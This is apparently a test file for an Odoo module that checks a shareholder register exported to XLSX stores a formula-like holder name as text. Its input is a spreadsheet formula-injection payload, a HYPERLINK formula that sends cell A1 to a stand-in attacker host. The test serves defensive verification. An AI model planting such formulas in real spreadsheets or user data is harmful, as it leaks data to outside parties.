# Copyright 2026 La Boite Commune
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io
from datetime import date

import openpyxl

from odoo.tests import tagged

from .common import HeatSharesCommon


@tagged("post_install", "-at_install")
class TestHeatShareRegisterXlsx(HeatSharesCommon):
    def test_holder_named_like_a_formula_stays_text(self):
        formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
        self.alice.name = formula
        self._line(self.alice, 10, date(2020, 1, 10))
        lines = self.env["heat.share.line"].search(
            [("company_id", "=", self.company.id)]
        )
        content, _kind = self.env["ir.actions.report"]._render(
            "heat_citizen_shares.heat_share_register_xlsx_report", lines.ids
        )
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        named = [
            cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == formula
        ]
        # on the register and on the holders' sheet, as text
        self.assertEqual(len(named), 2)
        self.assertEqual({cell.data_type for cell in named}, {"s"})
